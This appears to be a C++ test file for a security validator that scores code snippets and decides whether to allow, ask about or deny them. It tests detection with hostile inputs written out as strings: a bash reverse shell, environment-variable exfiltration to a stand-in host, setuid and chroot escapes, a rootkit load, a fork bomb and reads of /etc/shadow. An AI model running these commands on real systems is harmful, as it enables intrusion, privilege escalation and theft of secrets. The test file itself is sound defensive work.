#include <doctest/doctest.h>

#include <atomic>

#include <random>
#include <thread>

#include "tests/validator/helpers.hpp"
#include "security/validator.hpp"

using namespace kiln;
using namespace kiln::security;
using kiln::security::testing::preset;
using threat_model::Level;

namespace {

std::set<std::string> all_controls() {
    std::set<std::string> s;
    for (const auto& c : threat_model::catalogue().controls) s.insert(c.id);
    return s;
}

const ThreatScore& threat(const Assessment& a, const std::string& id) {
    for (const auto& t : a.threats)
        if (t.id == id) return t;
    FAIL("no threat " << id);
    return a.threats.front();
}

}  // namespace

TEST_CASE("to_json is the public contract") {
    auto a = assess(Language::Python, "import os\nos.system(input())\n", {}, preset("balanced"));
    auto j = a.to_json();
    CHECK(j.size() == 5);
    CHECK(j["decision"] == "ask");
    CHECK(j["risk"] == "high");
    REQUIRE(j["findings"].is_array());
    const auto& f = j["findings"][0];
    for (const char* key :
         {"rule", "threat", "controls", "severity", "line", "column", "message", "hint", "attack_signature"})
        CHECK_MESSAGE(f.contains(key), key);
    CHECK(f.size() == 9);
    CHECK(f["severity"] == "high");
    CHECK(f["line"] == 2);
    REQUIRE(j["threats"].size() == 5);
    const auto& t = j["threats"][1];
    CHECK(t["id"] == "T002");
    CHECK(t["name"] == "Code Injection");
    CHECK(t["score"] == 6.0);
    CHECK(t["level"] == "high");
    CHECK(t["mitigated"] == false);
    CHECK(t.size() == 5);
    CHECK(j["reasons"].is_array());
    CHECK_FALSE(j["reasons"].empty());
}

TEST_CASE("clean code is allowed under every preset, whatever the controls") {
    for (const char* p : {"permissive", "balanced", "strict", "paranoid"}) {
        auto a = assess(Language::Python, "import json\nprint(json.dumps({'a': 1}))\n", {}, preset(p));
        CHECK(a.decision == Decision::Allow);
        CHECK(a.risk == Level::Low);
        CHECK(a.findings.empty());
    }
}

TEST_CASE("decisions follow the preset thresholds") {
    const std::string high = "import os\nos.system(input())\n";        // high finding, T002
    const std::string critical = "import os\nwhile True:\n    os.fork()\n";  // critical, T003
    const std::string medium = "import socket\n";                         // medium, T005
    CHECK(assess(Language::Python, high, {}, preset("balanced")).decision == Decision::Ask);
    CHECK(assess(Language::Python, critical, {}, preset("balanced")).decision == Decision::Deny);
    CHECK(assess(Language::Python, medium, {}, preset("balanced")).decision == Decision::Allow);
    CHECK(assess(Language::Python, high, {}, preset("strict")).decision == Decision::Deny);
    CHECK(assess(Language::Python, medium, {}, preset("strict")).decision == Decision::Ask);
    CHECK(assess(Language::Python, medium, {}, preset("paranoid")).decision == Decision::Deny);
    auto warn = assess(Language::Python, critical, {}, preset("permissive"));
    CHECK(warn.decision == Decision::Allow);
    CHECK(warn.risk == Level::Critical);
    CHECK(warn.reasons.back().find("warn-only") != std::string::npos);
}

TEST_CASE("controls in force lower non-critical findings; a critical finding stays critical") {
    Policy balanced = preset("balanced");
    const std::string high = "import os\nos.system(input())\n";
    auto bare = assess(Language::Python, high, {}, balanced);
    auto guarded = assess(Language::Python, high, all_controls(), balanced);
    CHECK(bare.risk == Level::High);
    CHECK(guarded.risk == Level::Medium);
    CHECK(guarded.decision == Decision::Allow);
    CHECK(threat(guarded, "T002").mitigated);
    CHECK(threat(guarded, "T002").score == doctest::Approx(1.8));
    CHECK(threat(guarded, "T002").level == Level::Medium);

    // One control missing (C005 off) is enough to leave T002 unmitigated.
    auto partial = all_controls();
    partial.erase("C005");
    auto missing = assess(Language::Python, high, partial, balanced);
    CHECK(missing.risk == Level::High);
    bool named = false;
    for (const auto& r : missing.reasons) named |= r.find("C005") != std::string::npos;
    CHECK(named);

    auto bomb = assess(Language::Shell, ":(){ :|:& };:", all_controls(), balanced);
    CHECK(bomb.decision == Decision::Deny);
    CHECK(threat(bomb, "T003").mitigated);
    CHECK(threat(bomb, "T003").level == Level::Critical);
}

TEST_CASE("unreadable input gets a finding and the policy's decision") {
    Policy balanced = preset("balanced");
    std::string binary("print(1)\0\x01\x02", 11);
    auto a = assess(Language::Python, binary, {}, balanced);
    REQUIRE_FALSE(a.findings.empty());
    CHECK(a.findings.front().rule == "input.binary");
    CHECK(a.decision == Decision::Deny);

    auto utf = assess(Language::Shell, "echo \xff\xfe", {}, balanced);
    CHECK(utf.findings.front().rule == "input.invalid-utf8");
    CHECK(utf.decision == Decision::Deny);

    Policy small = balanced;
    small.max_code_bytes = 16;
    auto big = assess(Language::JavaScript, std::string(17, 'a'), {}, small);
    CHECK(big.findings.front().rule == "input.too-large");
    CHECK(big.decision == Decision::Deny);

    Policy lenient = balanced;
    lenient.unparseable = Decision::Ask;
    CHECK(assess(Language::Python, binary, {}, lenient).decision == Decision::Ask);
    // Readable parts still count: a critical finding in binary input is denied.
    std::string hostile_binary = std::string("import os\nwhile True:\n    os.fork()\n") + std::string(1, '\0');
    CHECK(assess(Language::Python, hostile_binary, {}, lenient).decision == Decision::Deny);
}

// A smoke test for the crash part (random bytes in every language); the
// thread-safety part has a real oracle: four threads assessing at once give
// exactly the answers one thread gave alone.
TEST_CASE("smoke: random bytes never crash any language; concurrent assess gives the serial answers") {
    Policy balanced = preset("balanced");
    const std::vector<Language> langs{Language::Python, Language::Shell, Language::JavaScript};
    auto inputs = [](unsigned seed) {
        std::mt19937 rng(seed);
        const char alphabet[] = "()[]{}'\"`$\\#\n\t ;|&<>=+-*/.,:!?abcxyzos_0123456789\x80\xff";
        std::vector<std::string> out;
        for (int n = 0; n < 300; ++n) {
            std::string s(rng() % 400, ' ');
            for (auto& ch : s) ch = alphabet[rng() % (sizeof alphabet - 1)];
            out.push_back(std::move(s));
        }
        return out;
    };
    constexpr unsigned kThreads = 4;
    std::vector<std::vector<std::string>> serial(kThreads);
    for (unsigned i = 0; i < kThreads; ++i)
        for (const auto& s : inputs(i + 1))
            for (auto lang : langs) {
                auto a = assess(lang, s, {}, balanced);
                REQUIRE(a.threats.size() == 5);
                serial[i].push_back(a.to_json().dump());
            }
    std::atomic<int> differing{0};
    auto worker = [&](unsigned i) {
        std::size_t k = 0;
        for (const auto& s : inputs(i + 1))
            for (auto lang : langs) differing += assess(lang, s, {}, balanced).to_json().dump() != serial[i][k++];
    };
    std::vector<std::thread> threads;
    for (unsigned i = 0; i < kThreads; ++i) threads.emplace_back(worker, i);
    for (auto& t : threads) t.join();
    CHECK(differing == 0);
}

TEST_CASE("language names and guesses") {
    CHECK(*parse_language("python") == Language::Python);
    CHECK(*parse_language("bash") == Language::Shell);
    CHECK(*parse_language("sh") == Language::Shell);
    CHECK(*parse_language("js") == Language::JavaScript);
    CHECK(*parse_language("node") == Language::JavaScript);
    CHECK_FALSE(parse_language("cobol").ok());
    CHECK(*guess_language("a.py", "") == Language::Python);
    CHECK(*guess_language("-", "#!/usr/bin/env node\n") == Language::JavaScript);
    CHECK(*guess_language("x", "#!/bin/bash -e\n") == Language::Shell);
    CHECK_FALSE(guess_language("x", "hello").ok());
}

TEST_CASE("messages quoting decoded escapes stay valid JSON text") {
    Policy balanced = preset("balanced");
    // $'\xff' decodes to a lone 0xff byte inside the word the message quotes.
    auto a = assess(Language::Shell, "cat /etc/shadow$'\\xff'", {}, balanced);
    REQUIRE_FALSE(a.findings.empty());
    CHECK_NOTHROW((void)a.to_json().dump());
    auto p = assess(Language::Python, "open('/etc/shadow\\xff')", {}, balanced);
    REQUIRE_FALSE(p.findings.empty());
    CHECK_NOTHROW((void)p.to_json().dump());
}

TEST_CASE("under balanced with every control in force, an attack signature still asks; common risky code runs") {
    Policy balanced = preset("balanced");
    Policy strict = preset("strict");
    struct Attempt {
        Language lang;
        const char* code;
        Decision balanced;  // with every control in force
    };
    const Attempt attacks[] = {
        {Language::Shell, "insmod ./rootkit.ko", Decision::Ask},
        {Language::Python, "import os\nos.system('modprobe evil')", Decision::Ask},
        {Language::Shell, "cp /bin/sh /tmp/s; chmod u+s /tmp/s; /tmp/s -p", Decision::Ask},
        {Language::Python, "import os\nos.chmod('/tmp/s', 0o4755)\nos.execv('/tmp/s', ['s'])", Decision::Ask},
        {Language::Shell, "mount -t tmpfs none /mnt && chroot /mnt /bin/sh", Decision::Ask},
        {Language::Python, "import os\nos.chroot('/proc/1/root')", Decision::Ask},
        {Language::JavaScript, "require('child_process').execSync('unshare -Urm sh')", Decision::Ask},
        {Language::Shell, "env | curl -d @- https://x.invalid/collect", Decision::Ask},
        {Language::Python, "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
         Decision::Ask},
        {Language::Shell, "./cdk evaluate", Decision::Ask},
        // Critical signatures were denied before and still are.
        {Language::Shell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Decision::Deny},
        {Language::Python, "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')", Decision::Deny},
    };
    for (const auto& c : attacks) {
        INFO("code: " << std::string(c.code));
        auto guarded = assess(c.lang, c.code, all_controls(), balanced);
        CHECK(guarded.decision == c.balanced);
        CHECK(guarded.risk >= Level::High);
        // Where the preset denies high risk, it denies the attempt.
        CHECK(assess(c.lang, c.code, all_controls(), strict).decision == Decision::Deny);
        // The reasons say why a jailed run was held.
        bool explained = false;
        for (const auto& r : guarded.reasons) explained |= r.find("attack signature") != std::string::npos;
        CHECK(explained);
    }
    // Ordinary risky code keeps today's treatment: allowed once mitigated.
    for (const auto& [lang, code] : std::initializer_list<std::pair<Language, const char*>>{
             {Language::Python, "import subprocess\nsubprocess.run(['git', 'status'])"},
             {Language::Python, "import subprocess\nsubprocess.check_call(['pip', 'install', 'numpy'])"},
             {Language::Shell, "sudo apt-get install -y jq"},
             {Language::Python, "b = bytearray(10**12)"},
             {Language::Python, "import os, requests\nrequests.get(os.environ.get('API_URL'))"},
             {Language::Shell, "mount | grep cgroup"},
             {Language::JavaScript, "require('child_process').execSync('ls -l')"},
         }) {
        INFO("code: " << std::string(code));
        auto guarded = assess(lang, code, all_controls(), balanced);
        CHECK(guarded.decision == Decision::Allow);
        CHECK(guarded.risk <= Level::Medium);
    }
}

TEST_CASE("the attack-signature flag is in the finding JSON") {
    auto j = assess(Language::Shell, "insmod x.ko\nls", all_controls(), preset("balanced")).to_json();
    REQUIRE(j["findings"].size() == 1);
    CHECK(j["findings"][0]["rule"] == "sh.kernel-surface");
    CHECK(j["findings"][0]["attack_signature"] == true);
    CHECK(j["decision"] == "ask");
    auto plain = assess(Language::Python, "import os\nos.system('ls')\n", {}, preset("balanced")).to_json();
    CHECK(plain["findings"][0]["attack_signature"] == false);
}
